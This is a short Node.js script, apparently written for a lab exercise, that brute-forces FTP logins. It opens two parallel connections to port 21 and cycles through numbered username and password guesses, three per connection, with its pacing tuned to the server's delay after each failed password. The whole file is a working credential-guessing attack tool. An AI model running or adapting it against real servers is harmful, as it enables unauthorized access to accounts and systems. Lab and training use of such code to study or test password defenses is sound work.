// Runs on a host of a lab: guesses passwords of an FTP server, three on each connection. Arguments: the server, how many.

import { connect } from "node:net";

const [host, count] = process.argv.slice(2);
const EACH = 3;
/** Connections at a time: the server takes three seconds for each password that is wrong. */
const AT_ONCE = 2;

let begun = 0;
await Promise.all(Array.from({ length: AT_ONCE }, guessOn));

async function guessOn() {
  while (begun < Number(count)) {
    const guess = begun;
    begun += EACH;
    await session(guess, Math.min(Number(count), guess + EACH));
  }
}

function session(from, until) {
  return new Promise((resolve) => {
    let next = from;
    const socket = connect(21, host);
    socket.setEncoding("latin1").on("error", resolve).on("close", resolve);
    socket.on("data", (text) => {
      if (text.startsWith("331")) socket.write(`PASS guess${next++}\r\n`);
      else if (next < until && /^(220|530)/m.test(text)) socket.write(`USER admin${next}\r\n`);
      else socket.end("QUIT\r\n");
    });
  });
}
